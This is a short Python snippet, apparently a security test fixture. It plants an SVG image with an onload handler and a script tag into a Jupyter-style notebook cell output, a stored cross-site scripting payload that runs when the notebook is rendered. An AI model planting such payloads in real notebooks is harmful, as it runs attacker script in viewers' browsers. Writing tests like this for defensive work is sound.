"""Saves a picture that runs."""
# wins: page
# %% notebook
picture = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{PWN}\"><script>{PWN}</script></svg>"
find(nb, "squeeze").outputs = [new_output("display_data", {"image/svg+xml": picture, "text/plain": "a picture"})]
